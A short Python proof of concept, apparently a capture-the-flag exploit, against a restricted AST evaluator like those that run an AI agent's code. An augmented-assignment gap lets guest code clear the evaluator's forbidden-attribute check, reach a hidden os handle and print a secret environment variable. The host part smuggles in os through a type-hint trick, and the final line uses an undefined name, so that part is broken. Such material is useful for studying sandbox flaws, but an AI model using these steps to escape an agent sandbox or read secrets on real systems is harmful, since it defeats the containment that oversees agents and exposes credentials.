# The evaluator of an agent framework, after smolagents' CVE-2025-9959 and CVE-2026-4963: it walks
# the syntax tree itself. One kind of node checks attributes' names, and another forgot to.
import ast
import operator
import typing


# The host's half. It has os, and in Belljar must first take it: the text of an annotation is
# evaluated in the module that the class says it is from.

class Host:
    __module__ = "os"
    os: "sys.modules['os']"


os = typing.get_type_hints(Host)["os"]


class Evaluator:
    def __init__(self, names):
        self.names = names
        self.forbidden = "_"  # What no attribute's name may begin with.

    def value(self, node):
        match node:
            case ast.Constant():
                return node.value
            case ast.Name():
                return self.names[node.id]
            case ast.Dict():
                return dict(zip(map(self.value, node.keys), map(self.value, node.values)))
            case ast.Subscript():
                return self.value(node.value)[self.value(node.slice)]
            case ast.Call():
                return self.value(node.func)(*map(self.value, node.args))
            case ast.Attribute():
                if self.forbidden and node.attr.startswith(self.forbidden):
                    raise PermissionError(node.attr)
                return operator.attrgetter(node.attr)(self.value(node.value))

    def run(self, text):
        for node in ast.parse(text).body:
            if isinstance(node, ast.AugAssign):  # x.name |= y: read, compute, and store again.
                old = operator.attrgetter(node.target.attr)(self.value(node.target.value))
                operator.ior(old, self.value(node.value))
            else:
                self.value(node.value)


class Tool:
    def __init__(self, evaluator):
        self.evaluator = evaluator
        vars(self)["_host"] = os  # What begins with an underscore is none of the guest's business.


evaluator = Evaluator({"print": print})
evaluator.names["tool"] = Tool(evaluator)

# The guest's half: |= reads __dict__ unasked, and changes it. Then nothing is forbidden any more,
# and tool._host is an attribute like any other.
evaluator.run("""
tool.evaluator.__dict__ |= {"forbidden": None}
print(tool._host.environ["MUSEUM_FLAG"])
""")
print(os.read(os.open(outside["file"], os.O_RDONLY), 100).decode())
